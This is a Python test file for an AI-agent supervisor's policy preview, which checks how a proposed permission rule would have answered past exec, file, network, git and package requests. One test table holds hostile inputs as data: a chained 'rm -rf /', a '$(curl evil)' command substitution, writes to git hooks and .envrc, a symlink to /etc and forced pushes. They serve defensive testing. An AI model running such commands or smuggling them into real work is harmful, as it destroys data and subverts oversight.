"""What a rule would have answered: never more than it would have, and what can't be told is
said."""

from typing import Any

import pytest

from supervisor.core.actions import Action, Effect, Exec, FileChange, Git, Network, Packages
from supervisor.core.approvals import Answer
from supervisor.core.lab.past import Past
from supervisor.core.lab.preview import MOST_TITLES, PastGroup, Preview, preview, sentence
from supervisor.core.policy.policy_text import parse_rule, policy_from_data
from supervisor.core.secrets.token_shapes import MARK
from supervisor.core.verdicts import OWN_FILE, Rule
from supervisor.errors import PolicyError
from tests.tables import each_row

BY = "operator (browser)"


def past(
    action: Action | str, verdict: Effect = "ask", answer: Answer | None = None, **facts: Any
) -> Past:
    made = Exec(command=action) if isinstance(action, str) else action
    request = "r" if verdict == "ask" else None
    given = {"at": 1.0, "session": "s", "action": made, "verdict": verdict, "answer": answer,
    "request": request, "answered_by": BY if answer else None}  # fmt: skip
    return Past(**(given | facts))


def seen(
    rule: str, *history: Past, effect: Effect = "allow", beside: dict[str, Any] | None = None
) -> Preview:
    in_force = None if beside is None else policy_from_data(beside)
    return preview(parse_rule(rule, effect), iter(history), in_force)


def counts(found: Preview) -> tuple[int, int, int, int]:
    return found.asked, found.approved.count, found.denied.count, found.unanswered.count


def test_approved_and_denied_apart() -> None:
    found = seen(
        "exec(make *)",
        past("make a", answer="approved"),
        past("make b", answer="denied"),
        past("make c"),
        past("npm test", answer="approved"),
        past(FileChange(operation="write", path="make"), answer="approved"),
    )
    assert counts(found) == (4, 1, 1, 1)
    assert (found.answered, found.against) == (3, PastGroup(1, ("make b",)))
    assert (
        sentence(found)
        == "would have answered 3 of the last 4 exec requests: 1 you approved, 1 you denied, 1 you"
        " didn't answer"
    )


def test_an_answer_that_a_rule_gave_is_nobodys() -> None:
    found = seen(
        "exec(make *)",
        past("make a", answer="denied", answered_by="rule ab12, saved by operator (cli)"),
    )
    assert counts(found) == (1, 0, 0, 1)


def test_nothing_to_look_at() -> None:
    assert sentence(seen("git(main)")) == "no earlier git request to compare with"
    found = seen("exec(make *)", past("npm test", answer="approved"))
    assert sentence(found) == "would have answered none of 1 exec request"


def test_what_had_no_card_is_no_request() -> None:
    """A rule's verdict, and the request inside of a connection that a person had approved."""
    connect = Network(operation="connect", host="a.example.org", port=443)
    found = seen(
        "network(a.example.org)",
        past(connect, "allow"),
        past(connect, "deny"),
        past(connect, request=None),
    )
    assert counts(found) == (0, 0, 0, 0)
    assert found.by_rules.count == 0


# -- no more than it would have answered ----------------------------------------------------------


@each_row(
    ("rule", "action"),
    [
        ("exec(make *)", "make a && rm -rf /"),
        ("exec(make *)", "make $(curl evil)"),
        ("exec(*)", "make a"),
        ("filesystem(**)", FileChange(operation="write", path=".git/hooks/x")),
        ("filesystem(**)", FileChange(operation="write", path=".envrc")),
        ("filesystem(src/*)", FileChange(operation="symlink", path="src/x", link_target="/etc",
         hazards=("symlink",))),
        ("network(a.example.org)", Network(operation="connect", host="a.example.org", port=22)),
        ("git(main)", Git(operation="push", remote="elsewhere", refspecs=("main",))),
        ("git(main)", Git(operation="push", remote="origin", refspecs=("main",), force=True)),
        ("packages(npm:left-pad)", Packages(manager="npm", operation="install", names=("left-pad",),
         flags=("--registry", "x"))),
    ],
)  # fmt: skip
def test_what_it_would_not_have_answered_does_not_count(rule: str, action: Action | str) -> None:
    found = seen(rule, past(action, answer="denied"))
    assert counts(found) == (1, 0, 0, 0)


def test_rules_in_force_stand_beside_it() -> None:
    compound = past("make a && npm test", answer="approved")
    assert seen("exec(make *)", compound).answered == 0
    assert seen("exec(make *)", compound, beside={"allow": ["exec(npm test)"]}).answered == 1
    stricter = {"allow": ["exec(npm test)"], "ask": ["exec(make a)"]}
    assert seen("exec(make *)", compound, beside=stricter).answered == 0
    assert seen("exec(make *)", past("make a"), beside={"deny": ["exec(make *)"]}).answered == 0


def test_only_what_the_rule_has_a_part_in_counts() -> None:
    assert (
        seen("exec(make *)", past("npm test"), beside={"allow": ["exec(npm test)"]}).answered == 0
    )


def test_own_files_are_asked_whatever_rules_say() -> None:
    own = past(FileChange(operation="write", path="policy.yaml"), why=OWN_FILE, by_policy=False)
    assert counts(seen("filesystem(policy.yaml)", own)) == (1, 0, 0, 0)
    assert counts(seen("filesystem(policy.yaml)", own, effect="deny")) == (1, 0, 0, 1)


def test_secrets_are_counted_apart() -> None:
    found = seen(
        "exec(echo *)", past(f"echo {MARK}", is_redacted=True), past("echo x", answer="approved")
    )
    assert (counts(found), found.redacted) == ((1, 1, 0, 0), 1)
    assert sentence(found).endswith("; 1 more held a secret, so nobody can tell")


# -- stricter rules -------------------------------------------------------------------------------


def test_a_deny_rule_names_what_was_approved_and_what_rules_had_allowed() -> None:
    history = (past("npm publish", answer="approved"), past("npm ci", answer="denied"),
    past("npm test", "allow"), past("npm x", "deny"))  # fmt: skip
    found = seen("exec(npm *)", *history, effect="deny")
    assert found.against == PastGroup(1, ("npm publish",))
    assert found.by_rules == PastGroup(1, ("npm test",))
    assert (
        sentence(found)
        == "would have answered 2 of the last 2 exec requests: 1 you approved, 1 you denied; would"
        " have denied 1 that rules allowed"
    )


def test_an_ask_rule_answers_nothing_and_asks_every_time() -> None:
    found = seen(
        "exec(npm *)", past("npm ci", answer="approved"), past("npm test", "allow"), effect="ask"
    )
    assert found.against == PastGroup()
    assert (
        sentence(found)
        == "would have asked every time 1 of 1 exec request: 1 you approved; would have asked 1"
        " that rules allowed"
    )
    none = seen(
        "exec(npm *)", past("npm ci", "ask"), beside={"deny": ["exec(npm ci)"]}, effect="ask"
    )
    assert none.answered == 0


# -- rules as they are written --------------------------------------------------------------------


def test_a_rule_with_conditions_is_judged_with_them() -> None:
    def rule(**details: Any) -> Rule:
        return policy_from_data({"allow": [{"rule": "exec(make *)"} | details]}).rules[0]

    history = [
        past(f"make {name}", session=name, at=at)
        for name, at in (("a", 10.0), ("b", 20.0), ("c", 30.0))
    ]
    assert preview(rule(), history).answered == 3
    assert preview(rule(uses=2), history).answered == 2
    assert preview(rule(expires="1970-01-01T00:00:20+00:00"), history).answered == 1
    assert preview(rule(session="b"), history).answered == 1
    assert preview(rule(**{"except": ["exec(make c)"]}), history).answered == 2


def test_titles_are_few_and_different() -> None:
    history = [past(f"make {number // 2}", answer="approved") for number in range(20)]
    found = seen("exec(make *)", *history)
    assert found.approved == PastGroup(20, tuple(f"make {number}" for number in range(MOST_TITLES)))


def test_a_rule_that_can_not_be_one() -> None:
    with pytest.raises(PolicyError):
        seen("network(*.com)")
